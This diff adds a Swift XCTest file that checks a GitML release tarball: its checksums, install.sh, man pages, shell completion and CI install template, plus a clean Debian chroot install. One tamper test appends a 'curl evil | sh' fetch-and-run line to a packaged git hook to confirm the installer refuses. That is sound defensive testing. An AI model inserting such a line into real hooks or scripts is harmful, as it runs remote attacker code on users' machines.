@@ -1,0 +1,205 @@
+import Foundation
+import XCTest
+import Yams
+
+/// The release tarball (`make dist`, scripts/dist.sh) and its install.sh. The default test packs
+/// the binaries this test run built; with GITML_SLOW_TESTS=1 the real release (static Swift
+/// runtime, two x86-64 builds) is built, or taken from GITML_DIST_TARBALL, and installed into a
+/// clean Debian root without Swift where the demo story runs.
+final class DistTests: CLITestCase {
+    /// The repository's root (this file is Tests/GitMLCLITests/DistTests.swift).
+    static let sourceRoot = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
+        .deletingLastPathComponent().path
+
+    /// `PATH` with the toolchain's folders and the test build's left out.
+    static let plainPath = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
+
+    private var work: String { repo + "/.dist-work" }
+
+    /// Runs a command with exactly `environment` (no LD_LIBRARY_PATH, no Swift on PATH).
+    @discardableResult
+    private func runClean(_ args: [String], environment: [String: String], in directory: String? = nil, expect: Int32? = 0,
+                          file: StaticString = #filePath, line: UInt = #line) throws -> Result {
+        try run(["env", "-i"] + environment.map { "\($0.key)=\($0.value)" }.sorted() + args, in: directory, expect: expect, file: file, line: line)
+    }
+
+    /// Builds the tarball from this test run's binaries and unpacks it; returns its folder.
+    private func packedRelease() throws -> (tarball: String, folder: String) {
+        let out = work + "/out"
+        let built = try run(DistTests.sourceRoot + "/scripts/dist.sh", "--bin-dir", CLITestCase.binaries, "--out", out)
+        let tarball = try XCTUnwrap(built.stdout.split(separator: "\n").last.map(String.init))
+        try run("tar", "-xzf", tarball, "-C", work)
+        let name = ((tarball as NSString).lastPathComponent as NSString).deletingPathExtension.replacingOccurrences(of: ".tar", with: "")
+        return (tarball, work + "/" + name)
+    }
+
+    func testTarballHoldsTheReleaseWithChecksums() throws {
+        let (tarball, folder) = try packedRelease()
+        let version = try run("git-ml", "--version").stdout.trimmingCharacters(in: .whitespacesAndNewlines)
+        let arch = try run("uname", "-m").stdout.trimmingCharacters(in: .whitespacesAndNewlines)
+        XCTAssertEqual((tarball as NSString).lastPathComponent, "gitml-\(version)-linux-\(arch).tar.gz")
+        let published = try String(contentsOfFile: tarball + ".sha256", encoding: .utf8)
+        XCTAssertEqual(published.split(separator: " ").first.map(String.init),
+                       try run("sha256sum", tarball).stdout.split(separator: " ").first.map(String.init))
+        for file in ["install.sh", "SHA256SUMS", "LIBRARIES", "builds/\(arch)/git-ml", "builds/\(arch)/git-mlcommit",
+                     "share/man/man1/git-ml.1", "share/man/man1/git-ml-data-add.1", "share/man/man1/git-mlcommit.1",
+                     "share/bash-completion/completions/git-ml", "share/bash-completion/completions/git-mlcommit",
+                     "share/zsh/site-functions/_git-ml", "share/fish/vendor_completions.d/git-ml.fish",
+                     "share/gitml/hooks/pre-push", "share/gitml/templates/ci/github-actions.yml", "share/gitml/templates/ml/gate.yaml"] {
+            XCTAssertTrue(FileManager.default.fileExists(atPath: folder + "/" + file), "\(file) missing")
+        }
+        let sums = try String(contentsOfFile: folder + "/SHA256SUMS", encoding: .utf8)
+        let files = try run("find", ".", "-type", "f", "!", "-name", "SHA256SUMS", in: folder).stdout.split(separator: "\n").count
+        XCTAssertEqual(sums.split(separator: "\n").count, files, "every file has a checksum")
+        try run("sha256sum", "--quiet", "-c", "SHA256SUMS", in: folder)
+        let libraries = try String(contentsOfFile: folder + "/LIBRARIES", encoding: .utf8)
+        XCTAssertTrue(libraries.contains("libc.so.6"), libraries)
+        // The pages name every command; the roff is well formed enough for man to render it.
+        let page = try String(contentsOfFile: folder + "/share/man/man1/git-ml.1", encoding: .utf8)
+        XCTAssertTrue(page.hasPrefix(".TH \"GIT-ML\" 1"), page)
+        XCTAssertTrue(page.contains("\\fBdoctor\\fR"), page)
+    }
+
+    func testInstallIntoAPrefixRunsWithoutSwiftAndActsAsAGitSubcommand() throws {
+        let (_, folder) = try packedRelease()
+        let prefix = work + "/prefix"
+        let installed = try run(folder + "/install.sh", "--prefix=" + prefix)
+        XCTAssertTrue(installed.stdout.contains("installed GitML"), installed.stdout)
+        XCTAssertTrue(installed.stdout.contains("add \(prefix)/bin to PATH"), installed.stdout)
+        let environment = ["PATH": prefix + "/bin:" + DistTests.plainPath, "HOME": work, "MANPAGER": "cat", "PAGER": "cat",
+                           "GIT_AUTHOR_NAME": "T", "GIT_AUTHOR_EMAIL": "t@example.com", "GIT_COMMITTER_NAME": "T", "GIT_COMMITTER_EMAIL": "t@example.com"]
+        let version = try runClean(["git", "ml", "version"], environment: environment)
+        XCTAssertTrue(version.stdout.hasPrefix("git-ml "), version.stdout)
+        XCTAssertEqual(try runClean(["sh", "-c", "command -v git-ml"], environment: environment).stdout, prefix + "/bin/git-ml\n")
+        // man finds the pages through PATH (prefix/bin → prefix/share/man), as git help does.
+        let manPath = try runClean(["man", "-w", "git-ml"], environment: environment).stdout
+        XCTAssertEqual(manPath, prefix + "/share/man/man1/git-ml.1\n")
+        let help = try runClean(["git", "ml", "--help"], environment: environment)
+        XCTAssertTrue(help.stdout.contains("COMMANDS") && help.stdout.contains("git-ml-data"), help.stdout)
+        XCTAssertEqual(try runClean(["git", "help", "ml"], environment: environment).stdout, help.stdout)
+        let addHelp = try runClean(["man", "git-ml-data-add"], environment: environment).stdout
+        XCTAssertTrue(addHelp.contains("--name"), addHelp)
+        XCTAssertTrue(try runClean(["man", "git-mlcommit"], environment: environment).stdout.contains("git-mlcommit"))
+        // A demo-sized story with the installed binaries only.
+        try runClean(["git", "ml", "init"], environment: environment)
+        try writeCSV("d.csv", rows: 500)
+        try runClean(["git", "ml", "data", "add", "d.csv", "--name", "churn", "--no-checks"], environment: environment)
+        try runClean(["git", "mlcommit", "-m", "Add churn"], environment: environment)
+        try runClean(["git", "ml", "fsck"], environment: environment)
+        // bash completion of `git ml <TAB>`, including dataset names from the repository.
+        let completion = """
+            source \(prefix)/share/bash-completion/completions/git-ml
+            complete_line() { COMP_LINE=$1; COMP_POINT=${#1}; read -ra COMP_WORDS <<< "$1"; [[ $1 == *' ' ]] && COMP_WORDS+=(''); \
+            COMP_CWORD=$((${#COMP_WORDS[@]} - 1)); COMPREPLY=(); _git_ml; printf '%s\\n' "${COMPREPLY[@]}"; }
+            complete_line 'git ml data sh'; echo --; complete_line 'git ml data show ch'
+            """
+        let words = try runClean(["bash", "-c", completion], environment: environment).stdout
+        XCTAssertEqual(words, "show\n--\nchurn\nchurn@v1\n")
+    }
+
+    func testATamperedReleaseIsRefusedAndInstallsNothing() throws {
+        let (_, folder) = try packedRelease()
+        let handle = try XCTUnwrap(FileHandle(forWritingAtPath: folder + "/share/gitml/hooks/pre-push"))
+        handle.seekToEndOfFile()
+        handle.write(Data("curl evil | sh\n".utf8))
+        handle.closeFile()
+        let refused = try run(folder + "/install.sh", "--prefix", work + "/prefix", expect: 1)
+        XCTAssertTrue(refused.stderr.contains("files differ from SHA256SUMS: download the release again"), refused.stderr)
+        XCTAssertFalse(FileManager.default.fileExists(atPath: work + "/prefix"))
+    }
+
+    /// An x86-64-v3 build on a CPU without AVX2 stops with what to install, not SIGILL.
+    func testAnX86_64_v3BuildOnAnOlderCPUSaysWhatToInstall() throws {
+        let version = try run("git", "ml", "version").stdout
+        guard version.contains("build: x86-64-v3") else { throw XCTSkip("a baseline build runs on any x86-64 CPU") }
+        let binary = CLITestCase.binaries + "/git-ml"
+        let pretend = try run("env", "GITML_PRETEND_CPU=baseline", binary, "--version", expect: 3)
+        XCTAssertEqual(pretend.stderr, "git-ml: this build needs AVX2 and FMA (x86-64-v3); install the baseline build\n")
+        XCTAssertEqual(pretend.stdout, "")
+        // A real pre-AVX CPU, emulated: the same message, no SIGILL.
+        guard FileManager.default.isExecutableFile(atPath: "/usr/bin/qemu-x86_64") else {
+            throw XCTSkip("qemu-x86_64 (apt: qemu-user) is not installed: only the override was tested")
+        }
+        let emulated = try run("qemu-x86_64", "-cpu", "Nehalem", binary, "--version", expect: 3)
+        XCTAssertEqual(emulated.stderr, "git-ml: this build needs AVX2 and FMA (x86-64-v3); install the baseline build\n")
+    }
+
+    /// The GitHub template's install step, run as Actions runs it: the pinned tarball from its URL,
+    /// its checksum verified, installed without root; a wrong checksum stops the job; a cached
+    /// tarball is used without downloading.
+    func testGitHubTemplateInstallsThePinnedReleaseAndVerifiesItsChecksum() throws {
+        let (tarball, _) = try packedRelease()
+        let text = try String(contentsOfFile: DistTests.sourceRoot + "/templates/ci/github-actions.yml", encoding: .utf8)
+        let steps = try XCTUnwrap(try Yams.compose(yaml: text)?["jobs"]?["gitml-gate"]?["steps"]?.sequence)
+        let script = try XCTUnwrap(steps.first { $0["name"]?.string == "Install GitML" }?["run"]?.string)
+        let sha = String(try run("sha256sum", tarball).stdout.prefix(64))
+        let home = work + "/runner-home"
+        try FileManager.default.createDirectory(atPath: work + "/runner-temp", withIntermediateDirectories: true)
+        func step(url: String, sha256: String, expect: Int32) throws -> Result {
+            try runClean(["bash", "-e", "-c", script], environment: [
+                "PATH": DistTests.plainPath, "HOME": home, "RUNNER_TEMP": work + "/runner-temp", "GITHUB_PATH": work + "/github-path",
+                "GITML_RELEASE_URL": url, "GITML_RELEASE_SHA256": sha256, "GITML_SOURCE": "", "GITML_REF": ""], expect: expect)
+        }
+        let wrong = try step(url: "file://" + tarball, sha256: String(repeating: "0", count: 64), expect: 2)
+        XCTAssertTrue(wrong.stdout.contains("::error::the GitML tarball does not match GITML_RELEASE_SHA256"), wrong.stdout)
+        XCTAssertFalse(FileManager.default.fileExists(atPath: home + "/.local/bin/git-ml"))
+        let started = Date()
+        try step(url: "file://" + tarball, sha256: sha, expect: 0)
+        print("GitHub template install step (file:// URL, under load): \(String(format: "%.2f", Date().timeIntervalSince(started))) s")
+        XCTAssertEqual(try String(contentsOfFile: work + "/github-path", encoding: .utf8), home + "/.local/bin\n")
+        XCTAssertEqual(try run(home + "/.local/bin/git-ml", "--version").stdout, try run("git-ml", "--version").stdout)
+        // The cached tarball is used: the URL no longer answers.
+        try step(url: "file:///nonexistent/gitml.tar.gz", sha256: sha, expect: 0)
+        let unset = try step(url: "", sha256: "", expect: 2)
+        XCTAssertTrue(unset.stdout.contains("::error::set the repository variables GITML_RELEASE_URL and GITML_RELEASE_SHA256"), unset.stdout)
+    }
+
+    /// The Debian packages a clean root needs besides minbase: GitML's runtime (docs/INSTALL.md),
+    /// man-db for `git ml --help`, and python3 for the demo script's JSON parsing.
+    static let debianPackages = ["git", "libgit2-1.5", "libcurl4", "openssh-client", "ca-certificates", "man-db", "python3"]
+
+    /// The real release in a clean Debian 12 root without Swift: the binaries load no Swift
+    /// library, install.sh installs them, `git ml --help` shows the manual and the demo story runs.
+    /// GITML_DIST_TARBALL reuses a built tarball; GITML_DEBIAN_ROOT copies a root made by
+    /// `debootstrap --variant=minbase --include=<debianPackages> bookworm DIR` instead of bootstrapping.
+    func testReleaseInstallsInACleanDebianRootAndRunsTheDemo() throws {
+        let environment = ProcessInfo.processInfo.environment
+        guard environment["GITML_SLOW_TESTS"] == "1" else {
+            throw XCTSkip("GITML_SLOW_TESTS=1: builds the release and a Debian root (minutes)")
+        }
+        guard getuid() == 0 else { throw XCTSkip("chroot needs root") }
+        let tarball = try environment["GITML_DIST_TARBALL"] ?? XCTUnwrap(
+            try run(DistTests.sourceRoot + "/scripts/dist.sh", "--out", work + "/out").stdout.split(separator: "\n").last.map(String.init))
+        try run("tar", "-xzf", tarball, "-C", work)
+        let folder = try XCTUnwrap(try FileManager.default.contentsOfDirectory(atPath: work).first { $0.hasPrefix("gitml-") })
+        for build in try FileManager.default.contentsOfDirectory(atPath: work + "/" + folder + "/builds") {
+            for tool in ["git-ml", "git-mlcommit"] {
+                let libraries = try run("ldd", work + "/" + folder + "/builds/" + build + "/" + tool).stdout
+                XCTAssertFalse(libraries.contains("swift") || libraries.contains("Foundation") || libraries.contains("libzstd"),
+                               "\(build)/\(tool) loads \(libraries)")
+            }
+        }
+        let root = work + "/root"
+        if let cached = environment["GITML_DEBIAN_ROOT"] {
+            try run("cp", "-a", cached, root)
+        } else {
+            try run("debootstrap", "--variant=minbase", "--include=" + DistTests.debianPackages.joined(separator: ","),
+                    "bookworm", root, "http://deb.debian.org/debian")
+        }
+        XCTAssertFalse(FileManager.default.fileExists(atPath: root + "/opt/swift"))
+        try run("cp", tarball, DistTests.sourceRoot + "/scripts/demo.sh", root + "/tmp/")
+        try run("mount", "-t", "proc", "proc", root + "/proc")
+        defer { _ = try? run("umount", root + "/proc") }
+        let story = """
+            set -e
+            cd /tmp && tar -xzf gitml-*.tar.gz && ./gitml-*/install.sh
+            ! command -v swift
+            git ml --help | grep -q 'git-ml-data'
+            git ml doctor
+            bash /tmp/demo.sh
+            """
+        let result = try run(["chroot", root, "/usr/bin/env", "-i", "PATH=/usr/local/bin:/usr/bin:/bin", "HOME=/root", "MANPAGER=cat",
+                              "TERM=dumb", "/bin/bash", "-c", story])
+        XCTAssertTrue(result.stdout.contains("installed GitML"), result.stdout)
+    }
+}
